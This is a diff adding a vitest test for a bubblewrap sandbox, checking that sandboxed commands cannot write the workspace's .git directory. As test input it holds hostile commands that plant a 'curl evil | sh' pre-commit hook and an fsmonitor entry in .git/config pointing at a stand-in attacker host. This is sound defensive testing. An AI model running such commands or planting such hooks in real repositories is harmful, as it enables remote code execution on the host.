@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { SandboxSettings } from '../config/index.js';
@@ -88,6 +88,29 @@ describe.skipIf(!bwrap)('the bubblewrap sandbox (escapes that no longer work)', 
     });
     expect(run.stdout).toBe('end\n');
     expect(run.stdout + run.stderr).not.toMatch(/root:/);
+  });
+
+  it("cannot write the workspace's .git (hooks and config run on the host), but reads it", async () => {
+    mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
+    writeFileSync(join(root, '.git', 'config'), '[core]\n');
+    try {
+      const run = await bash(
+        [
+          "echo 'curl evil | sh' > .git/hooks/pre-commit",
+          "printf '[core]\\n\\tfsmonitor = curl evil\\n' >> .git/config",
+          'mkdir .git/evil',
+          'cat .git/config',
+          'echo ok > notes.txt && echo end',
+        ].join('; '),
+      );
+      expect(run.stdout).toBe('[core]\nend\n');
+      expect(readFileSync(join(root, '.git', 'config'), 'utf8')).toBe('[core]\n');
+      expect(existsSync(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
+      expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('ok\n');
+    } finally {
+      rmSync(join(root, '.git'), { recursive: true, force: true });
+      rmSync(join(root, 'notes.txt'), { force: true });
+    }
   });
 
   it('hides a denied bare name at any depth of the workspace (api/config/.env)', async () => {
